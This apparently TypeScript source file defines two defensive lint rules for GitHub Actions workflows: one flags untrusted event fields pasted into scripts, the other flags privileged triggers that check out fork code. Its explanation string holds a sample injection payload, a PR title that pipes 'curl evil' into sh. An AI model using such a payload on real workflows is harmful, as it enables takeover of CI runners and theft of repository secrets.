import { entry, expressionsIn, literalText, type Located } from '../located.ts';
import type { Workflow } from '../workflow.ts';
import type { Finding, Rule } from './finding.ts';
import { finding, flowingPathsIn, isAction, listensTo, pathsIn, stepsOf } from './places.ts';

/** Parts of the payload that whoever opens an issue or a pull request writes. */
const untrusted = [
  /^github\.event\.(issue|pull_request|discussion)\.(title|body)$/,
  /^github\.event\.pull_request\.head\.(ref|label|repo\.default_branch)$/,
  /^github\.event\.(comment|review|review_comment)\.body$/,
  /^github\.event\.pages\.\*\.page_name$/,
  /^github\.event\.(commits\.\*|head_commit)\.(message|author\.(email|name))$/,
  /^github\.event\.workflow_run\.(head_branch|head_commit\.(message|author\.(email|name))|display_title)$/,
  /^github\.event\.merge_group\.head_commit\.message$/,
  /^github\.event\.(release|milestone|label)\.(name|title|body|description)$/,
  /^github\.(head_ref|ref_name|ref)$/,
];

/** Free text that whoever dispatches or calls writes; the other types cannot hold code. */
function isTextInput(path: readonly string[], workflow: Workflow | undefined): boolean {
  const [context, name] = path;
  if (context !== 'inputs' || name === undefined) return false;
  const types = (workflow?.triggers ?? [])
    .map((trigger) => entry(entry(trigger.config, 'inputs'), name))
    .filter((declaration) => declaration !== undefined)
    .map((declaration) => literalText(entry(declaration, 'type')) ?? 'string');
  return types.length === 0 || types.some((type) => type === 'string');
}

const isUntrusted = (path: readonly string[]): boolean =>
  untrusted.some((pattern) => pattern.test(path.join('.'))) ||
  // The whole payload, or a part chosen at run time, holds the untrusted parts too.
  ['github.event', 'github', 'github.event.*'].includes(path.join('.'));

const rule = 'script-injection';

export const scriptInjection: Rule = {
  id: rule,
  severity: 'error',
  why: 'An expression is pasted into the script before the shell reads it: a pull request titled `"; curl evil | sh; "` becomes code.',
  fix: 'Pass the value through `env:` and use "$NAME" in the script.',
  *check(repository) {
    for (const { path, step, workflow } of stepsOf(repository)) {
      yield* injections(path, step.run, workflow);
      if (isAction(step, 'actions/github-script')) {
        yield* injections(path, entry(step.with, 'script'), workflow);
      }
    }
  },
};

function* injections(
  path: string,
  script: Located | undefined,
  workflow: Workflow | undefined,
): Generator<Finding> {
  for (const { expression, at } of expressionsIn(script)) {
    const source = flowingPathsIn(expression).find(
      (read) => isUntrusted(read) || isTextInput(read, workflow),
    );
    if (source === undefined) continue;
    const message = `\${{ ${expression.trim()} }} pastes ${source.join('.')} into a script`;
    yield finding(rule, path, at, message);
  }
}

/** Events that run with secrets and a writing token although the code may come from a fork. */
const privileged = ['pull_request_target', 'workflow_run', 'issue_comment'] as const;

export const forkCode: Rule = {
  id: 'secrets-to-fork-code',
  severity: 'error',
  why: 'These events carry secrets and a token that may write; checking out the head of a pull request hands both to code from a fork.',
  fix: 'Use `pull_request` for anything that runs the head, or split the privileged part into a job that never checks it out.',
  *check(repository) {
    for (const { path, step, workflow } of stepsOf(repository)) {
      if (workflow === undefined || !listensTo(workflow, ...privileged)) continue;
      if (!isAction(step, 'actions/checkout')) continue;
      const inputs = [entry(step.with, 'ref'), entry(step.with, 'repository')];
      for (const { expression, at } of inputs.flatMap((input) => [...expressionsIn(input)])) {
        if (!pathsIn(expression).some(namesTheHead)) continue;
        yield finding(this.id, path, at, `checks out \${{ ${expression.trim()} }} with secrets`);
      }
    }
  },
};

function namesTheHead(path: readonly string[]): boolean {
  const text = path.join('.');
  return (
    text === 'github.head_ref' ||
    /^github\.event\.(pull_request\.head|workflow_run\.head_)/.test(text) ||
    /^github\.event\.(pull_request\.merge_commit_sha|issue\.number|pull_request\.number|number)$/.test(
      text,
    )
  );
}
